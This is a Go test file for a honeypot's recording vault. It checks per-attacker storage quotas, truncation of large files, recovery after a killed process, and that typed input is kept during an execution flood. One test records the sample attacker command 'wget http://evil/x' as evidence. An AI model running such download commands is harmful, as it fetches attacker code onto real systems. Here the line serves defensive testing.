package record_test

import (
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kokkuri/kokkuri/internal/event"
	"github.com/kokkuri/kokkuri/internal/honeypot/record"
)

func TestKeep(t *testing.T) {
	t.Parallel()
	attacker, other := netip.MustParsePrefix("203.0.113.66/32"), netip.MustParsePrefix("203.0.113.67/32")
	dir := t.TempDir()
	v := openVault(t, dir, func(o *record.VaultOptions) { o.MaxFile, o.MaxAttacker = 1<<20, 100<<10 })
	c, err := v.Keep(attacker, strings.NewReader("malware"), 7)
	require.NoError(t, err)
	data, size, err := v.Read(c.SHA256, 0, 100)
	require.NoError(t, err)
	assert.Equal(t, "malware", string(data))
	assert.Equal(t, int64(7), size)
	for range 100 { // the same again costs the attacker nothing
		again, err := v.Keep(attacker, strings.NewReader("malware"), 7)
		require.NoError(t, err)
		assert.Equal(t, c, again)
	}
	big, err := v.Keep(attacker, strings.NewReader(strings.Repeat("b", 80<<10)), 80<<10)
	require.NoError(t, err)
	assert.False(t, big.Truncated)
	none, err := v.Keep(attacker, strings.NewReader(strings.Repeat("c", 40<<10)), 40<<10)
	require.NoError(t, err)
	assert.Equal(t, event.Content{Size: 40 << 10, Truncated: true}, none, "the attacker's room is used up")
	c, err = v.Keep(other, strings.NewReader(strings.Repeat("d", 40<<10)), 40<<10)
	require.NoError(t, err)
	assert.NotEmpty(t, c.SHA256, "another's is not")
	left, err := filepath.Glob(dir + "/recordings/*")
	require.NoError(t, err)
	assert.Empty(t, left)

	// What a killed process left of one is of no use.
	require.NoError(t, os.WriteFile(dir+"/recordings/1.keep", []byte("half"), 0o600))
	_, err = v.Recover("killed")
	require.NoError(t, err)
	assert.NoFileExists(t, dir+"/recordings/1.keep")
}

func TestLargeFileIsCutShort(t *testing.T) {
	t.Parallel()
	v := openVault(t, t.TempDir(), func(o *record.VaultOptions) { o.MaxFile = 10 })
	c, err := v.Keep(netip.MustParsePrefix("203.0.113.66/32"), strings.NewReader(strings.Repeat("x", 50)), 1<<40)
	require.NoError(t, err)
	assert.True(t, c.Truncated)
	assert.Equal(t, int64(1)<<40, c.Size)
	_, size, err := v.Read(c.SHA256, 0, 1)
	require.NoError(t, err)
	assert.Equal(t, int64(10), size)
}

// However much is run in a pot, what its attacker types is kept.
func TestWhatRunsDoesNotHideWhatIsTyped(t *testing.T) {
	t.Parallel()
	v := openVault(t, t.TempDir(), nil)
	r, err := v.Begin(headerOf("flood"))
	require.NoError(t, err)
	at := time.Now().Add(-time.Minute)
	for range 30_000 {
		r.NoteSeen(event.Evidence{Kind: event.EvidenceExecution, At: at, Execution: &event.Execution{Path: "/bin/true"}})
	}
	r.Note(event.Evidence{Kind: event.EvidenceInput, Input: "wget http://evil/x"})
	sum, _, err := r.Close("done")
	require.NoError(t, err)
	var executions, missed uint64
	typed := false
	for from := int64(0); ; {
		left, next, err := v.Evidence("flood", sum, true, from, 1<<20)
		require.NoError(t, err)
		if len(left) == 0 {
			break
		}
		for _, e := range left {
			switch {
			case e.Execution != nil:
				executions++
				assert.WithinDuration(t, at, e.At, time.Millisecond, "it tells when it happened")
			case e.Missed != nil:
				missed = e.Missed.Executions
			case e.Kind == event.EvidenceInput:
				typed = true
			}
		}
		from = next
	}
	assert.True(t, typed)
	assert.Equal(t, uint64(30_000), executions+missed)
	assert.Equal(t, uint64(10_000), executions)
}
